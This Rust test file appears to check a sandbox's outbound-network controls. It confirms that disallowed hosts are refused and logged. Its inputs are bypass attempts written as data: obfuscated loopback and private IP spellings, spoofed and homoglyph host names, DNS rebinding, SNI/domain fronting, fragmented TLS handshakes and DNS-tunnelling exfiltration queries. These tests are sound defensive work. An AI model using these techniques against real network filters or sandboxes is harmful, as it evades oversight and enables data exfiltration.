//! What is asked for by name, address, and the names within TLS and HTTP (rows 19 to 31, and 39).

use super::*;
use crate::sealed::TLS;

#[track_caller]
pub fn row_19_a_host_that_is_not_allowed(place: &dyn Inside) {
    let (deploy, sandbox) = (place.deploy(), place.sandbox());
    refused(
        place,
        r#"show(both("example.com", "example.com:443", "pypi.org:443") | {
    "name": attempt(lambda: address("example.com")), "placed": placed("github.com", "pypi.org", get("pypi.org"))})"#,
    );
    let denied = deploy.denied();
    let logged = |entry: &agentenv_protocol::control::DeniedEntry| {
        entry.host == "example.com" && entry.sandbox.as_str() == sandbox
    };
    assert!(denied.iter().any(logged), "{sandbox}: {denied:?}");
}

pub fn rows_20_and_21_addresses_in_every_spelling() -> String {
    let hosts = [
        "203.0.113.10",
        "203.0.113.20",
        "3405803786",
        "0xcb.0.113.10",
        "127.1",
        "2130706433",
        "0x7f.1",
        "0177.0.0.1",
        "0.0.0.0",
        "127.0.0.1",
        "10.9.9.9",
        "[::1]",
        "[::ffff:127.0.0.1]",
        "[::ffff:203.0.113.10]",
        "[64:ff9b::cb00:710a]",
        "[fd00::1]",
        "[fe80::1%25lo]",
        "[fe80::1%lo]",
    ];
    let hosts = json!(hosts).to_string();
    format!("show(both(*[host + port for host in json.loads({hosts:?}) for port in (':443', ':80')]))")
}

#[track_caller]
pub fn row_22_case_and_a_trailing_dot(place: &dyn Inside) {
    let sandbox = place.sandbox();
    let answer = tell(
        place,
        r#"show({"good": [connect(t) for t in ("github.com:443", "GitHub.COM:443", "github.com.:443", "GITHUB.com.:443")],
    "bad": [connect(t) for t in ("example.com:443", "EXAMPLE.com:443", "example.com.:443", "github.com..:443")],
    "addresses": sorted({address(name) for name in ("github.com", "GitHub.com", "GITHUB.COM.")})})"#,
    );
    let each = |key: &str, begins: &str| {
        let answers = answer[key].as_array().expect("answers");
        assert!(
            answers.iter().all(|one| one.as_str().is_some_and(|one| one.starts_with(begins))),
            "{sandbox}: {answer}"
        );
    };
    each("good", "ok: HTTP/1.1 200");
    each("bad", "403");
    assert_eq!(answer["addresses"].as_array().map(Vec::len), Some(1), "{sandbox}: {answer}");
}

pub fn rows_23_to_25_names_that_pretend() -> String {
    r#"show(both(
    # Row 23.
    "[github.com]:443", "user@github.com:443", "github.com\0.ok:443", "github.com.evil:443", "evil-github.com:443",
    "github.com:443:443", "github.com%00:443", "github.com%2eevil.example:443", "github.com#@example.com:443",
    "example.com/github.com:443", "localhost:443", "x.localhost:443", "github.com:443@example.com:443",
    # Row 24: `*.githubusercontent.com` is allowed.
    "githubusercontent.com:443", "githubassets.com:443",
    # Row 25: a Cyrillic о, a dotless ı, and their A-labels.
    "github.c\u043em:443", "g\u0131thub.com:443", "xn--gthub-n4a.com:443", "xn--github-.com:443",
))"#
    .to_owned()
}

#[track_caller]
pub fn row_26_a_name_that_is_rebound_is_dialled_at_the_address_that_was_checked(place: &dyn Inside) {
    let answer = tell(
        place,
        r#"show({"first": through("rebind.github.com", "rebind.github.com", get("rebind.github.com")),
    "later": both("rebind.github.com:443", "rebind.github.com") | {"placed": placed("rebind.github.com", "rebind.github.com")}})"#,
    );
    assert_eq!(answer["first"], "ok: HTTP/1.1 200 OK", "the first answer is public: {answer}");
    all_refused(place.sandbox(), &answer["later"]);
}

pub fn rows_27_and_28_names_that_are_not_public() -> String {
    r#"names = ["internal", "shared", "multicast", "nothing", "metadata", "loopback6", "mapped", "unique-local", "nat64", "mixed", "mixed6",
    "alias"]
hosts = [f"{name}.github.com" for name in names]
show(both(*hosts, *[f"{host}:443" for host in hosts]) | {f"placed {host}": placed(host, host) for host in hosts})"#
        .to_owned()
}

#[track_caller]
pub fn rows_27_and_28_are_on_the_denied_log(place: &dyn Inside) {
    let (deploy, sandbox) = (place.deploy(), place.sandbox());
    let denied = deploy.denied();
    let logged = |host: &str| {
        denied
            .iter()
            .any(|entry| entry.host == host && entry.sandbox.as_str() == sandbox && entry.reason.contains("not public"))
    };
    assert!(logged("alias.github.com") && logged("shared.github.com"), "{sandbox}: {denied:?}");
}

/// Other names than that of the tunnel, each in each.
pub fn row_29_connect_differs_from_sni(tunnels: &[&str], names: &[&str]) -> String {
    let (tunnels, names) = (json!(tunnels).to_string(), json!(names).to_string());
    format!(
        "show({{f'{{sni}} in {{target}}': through(target, sni) for target in json.loads({tunnels:?}) for sni in json.loads({names:?})}})"
    )
}

/// Names of real sites that are told in the tunnels of others.
pub const SNI_IN_REAL_TUNNELS: [&str; 6] =
    ["example.com", "www.github.com", "gist.github.com", "internal.github.com", "github.com.evil", "203.0.113.10"];

#[track_caller]
pub fn row_30_fronting_on_minted_connections(place: &dyn Inside, own: &str, others: &[&str]) {
    let sandbox = place.sandbox();
    let others = json!(others).to_string();
    let answer = tell(
        place,
        &format!(
            r#"show([way("{own}", "{own}", get(host)) for way in (through, placed)
    for host in (*json.loads({others:?}), "{own}:22")])"#
        ),
    );
    let answers = answer.as_array().expect("answers");
    assert!(answers.iter().all(|one| one == "421" || one == "400"), "{sandbox}: {answer}");
    assert_eq!(answers[0], "421", "{sandbox}: {answer}");
}

/// Names that are asked for on a synthetic site's connection.
pub const FRONTED: [&str; 3] = ["github.com", "example.com", "internal.github.com"];

/// What is within the encryption of a live tunnel can't be seen; wherever the real site takes it, it went to that site's address.
#[track_caller]
pub fn row_30_fronting_in_a_live_tunnel_stays_at_its_address(place: &dyn Inside, internet: &Internet) {
    let answer = tell(place, r#"show(through("github.com", "github.com", get("example.com")))"#);
    assert!(answer.as_str().is_some_and(|one| one.starts_with("ok")), "{answer}");
    assert_eq!(internet.requests_to("example.com").len(), 1, "it got to whoever is at github.com's address");
    assert!(internet.packets("dst host 203.0.113.20").is_empty(), "and not to example.com's");
}

pub fn row_31_the_first_message_of_tls() -> String {
    format!(
        r#"{TLS}
cuts = {{"bytes": bytewise, "records of 1": by_records(1), "records of 50": by_records(50)}}
own = address("github.com")
wrong = {{f"{{sni}} in {{name}}": attempt_tls(own, sni, cut, check=False) for sni in ("example.com", "www.github.com", None)
    for name, cut in cuts.items()}}
right = {{name: attempt_tls(own, "github.com", cut) for name, cut in cuts.items()}}
assert set(right.values()) == {{"ok"}}, right
def silent():
    with socket.create_connection((own, 443), 5) as s:
        s.sendall(b"GET / HTTP/1.1\r\nHost: github.com\r\n\r\n")
        return judged(first_line(s))
show(wrong | {{"none through": through("github.com", None), "no TLS": silent(), "unknown address": attempt_tls("198.19.255.254", "github.com", whole, check=False)}})"#
    )
}

/// Asks the placed name server; gives code and number of answers.
pub const QUESTION: &str = r#"
def question(name, kind, over_tcp=False):
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    message = struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">HH", kind, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM if over_tcp else socket.SOCK_DGRAM) as s:
        s.settimeout(5)
        s.connect(("127.0.0.53", 53))
        s.send(struct.pack(">H", len(message)) + message if over_tcp else message)
        answer = s.recv(4096)[2 if over_tcp else 0:]
    return [answer[3] & 15, struct.unpack(">H", answer[6:8])[0]]
long = ".".join(f"exfil{n:02}-" + "a" * 50 for n in range(3))
kinds = {"A": 1, "NS": 2, "CNAME": 5, "NULL": 10, "MX": 15, "TXT": 16, "AAAA": 28, "SRV": 33, "SVCB": 64, "HTTPS": 65, "ANY": 255}
"#;

/// Long labels, and every type, below a name that may be reached: answered here, and never asked of the real name server.
#[track_caller]
pub fn row_39_a_question_alone_goes_nowhere(place: &dyn Inside) {
    let sandbox = place.sandbox();
    let answer = tell(
        place,
        &format!(
            r#"{QUESTION}
show({{"below": {{name: [question(f"{{long}}.github.com", kind), question(f"{{long}}.github.com", kind, True)] for name, kind in kinds.items()}},
      "beside": question(f"{{long}}.exfil.invalid", 1),
      "elsewhere": attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"exfil", ("203.0.113.53", 53)))}})"#
        ),
    );
    for (kind, answers) in answer["below"].as_object().expect("answers") {
        let records = usize::from(kind == "A");
        let expected = json!([[0, records], [0, records]]);
        assert_eq!(answers, &expected, "{sandbox}: {kind}: an address of ours, and nothing else: {answer}");
    }
    if sandbox != "free" {
        assert_eq!(answer["beside"][0], 3, "{sandbox}: {answer}");
    }
    assert!(!answer["elsewhere"].as_str().unwrap_or_default().starts_with("ok"), "{sandbox}: {answer}");
}
